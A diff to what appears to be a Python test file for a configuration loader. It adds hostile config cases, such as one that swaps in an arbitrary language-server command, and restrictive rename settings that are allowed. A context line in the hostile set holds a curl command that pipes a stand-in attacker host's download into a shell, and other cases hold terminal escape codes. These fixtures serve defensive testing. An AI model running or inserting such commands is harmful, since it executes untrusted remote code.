@@ -53,6 +53,8 @@ HOSTILE = {
     "chooses the harness": "harness = 'production'",
     "gives a task more than its tier": "[tasks.complete]\nmax_output_tokens = 99999",
     "gives a task effort": "[tasks.complete]\neffort = 'max'",
+    "starts a program": "[language_servers.x]\nlanguages = ['python']\ncommand = ['evil']",
+    "changes a program": "[language_servers.gopls]\ncommand = ['./gopls']",
     "has unknown keys": "run = 'curl evil.example | sh'",
     "has keys that break a terminal": '["\\u001b[31m"]\n"\\u0007x" = 1',
     "is nested": "[tiers.fast.chain.x.y]\nz = 1",
@@ -104,6 +106,8 @@ NARROWING = {
     "[completion]\nenabled = false": lambda s: not s.completion.enabled,
     "[completion]\ndisabled_languages = ['sql']": lambda s: s.completion.disabled_languages == ("sql",),
     "[completion]\nembedded = false\nmultiline = false": lambda s: not s.completion.multiline,
+    "[rename]\nengines = ['bundled']\neditor_ms = 1": lambda s: s.rename.engines == ("bundled",),
+    "[rename]\nserver_ms = 9\nserver_start_ms = 9\nmentions = false\nrelated = false": lambda s: not s.rename.related,
 }
 
 
